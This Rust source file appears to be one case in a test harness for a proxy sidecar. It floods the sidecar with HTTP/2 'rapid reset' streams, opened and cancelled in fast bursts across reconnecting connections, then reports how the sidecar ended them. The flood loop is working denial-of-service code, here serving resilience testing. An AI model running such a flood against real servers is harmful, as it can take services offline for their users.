//! Rapid reset through the outbound: streams opened and reset at once (RST_STREAM
//! CANCEL) in a loop on one connection; when the sidecar closes it, a new one, until the
//! attack's time is up.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use h2::Reason;

use crate::app::{AppStats, BEHAVIOUR, SINK};
use crate::case::Target;
use crate::raw::{Connection, MODEL_INFER, head};

/// A bound on the streams of one attack, whatever the sidecar allows.
const MAX_STREAMS: u64 = 200_000;
/// Streams opened and reset back to back before the attacker pauses.
const BURST: u64 = 50;
/// The pause after each burst: about 10,000 streams a second, for the whole attack
/// (h2 would otherwise queue a connection's worth of streams at once, most of which
/// never reach the sidecar).
const PAUSE: Duration = Duration::from_millis(5);

/// Why a connection ended, in words.
async fn ending(connection: &mut Connection) -> String {
    match tokio::time::timeout(Duration::from_secs(1), &mut connection.driver).await {
        Ok(Ok(Err(e))) if e.is_go_away() => {
            format!("GOAWAY {:?}", e.reason().unwrap_or(Reason::NO_ERROR))
        }
        Ok(Ok(Err(e))) => format!("error: {e}"),
        Ok(Ok(Ok(()))) => "closed (GOAWAY NO_ERROR or end of stream)".into(),
        Ok(Err(_)) => "driver task failed".into(),
        Err(_) => "open when the attack stopped".into(),
    }
}

/// Opens and resets streams for the attack's time.
pub async fn run(target: Target) -> Vec<String> {
    let start = Instant::now();
    let calls_before = AppStats::get(&target.app.hostile_calls);
    let authority = target.outbound.to_string();
    let mut streams = 0u64;
    let mut per_connection = Vec::new();
    let mut endings: BTreeMap<String, u64> = BTreeMap::new();
    while start.elapsed() < target.duration && streams < MAX_STREAMS {
        let mut connection = match Connection::open(target.outbound, 65_535, 65_535).await {
            Ok(c) => c,
            Err(e) => {
                *endings
                    .entry(format!("could not connect: {e}"))
                    .or_default() += 1;
                tokio::time::sleep(Duration::from_millis(10)).await;
                continue;
            }
        };
        let mut on_this = 0u64;
        while start.elapsed() < target.duration && streams < MAX_STREAMS {
            let Ok(mut send) = connection.send.clone().ready().await else {
                break;
            };
            let Ok((_response, mut stream)) =
                send.send_request(head(&authority, MODEL_INFER, &[(BEHAVIOUR, SINK)]), false)
            else {
                break;
            };
            stream.send_reset(Reason::CANCEL);
            on_this += 1;
            streams += 1;
            if on_this.is_multiple_of(BURST) {
                tokio::time::sleep(PAUSE).await;
            }
        }
        *endings.entry(ending(&mut connection).await).or_default() += 1;
        per_connection.push(on_this);
    }
    per_connection.sort();
    let median = per_connection
        .get(per_connection.len() / 2)
        .copied()
        .unwrap_or(0);
    vec![
        format!(
            "{streams} streams opened and reset at once, in bursts of {BURST}, on {} \
             connection(s) in {:.1} s (median {median} streams per connection)",
            per_connection.len(),
            start.elapsed().as_secs_f64()
        ),
        format!(
            "how the attacker's connections ended: {}",
            endings
                .iter()
                .map(|(why, n)| format!("{why} ×{n}"))
                .collect::<Vec<_>>()
                .join(", ")
        ),
        format!(
            "reset calls that reached the app anyway: {}",
            AppStats::get(&target.app.hostile_calls) - calls_before
        ),
    ]
}
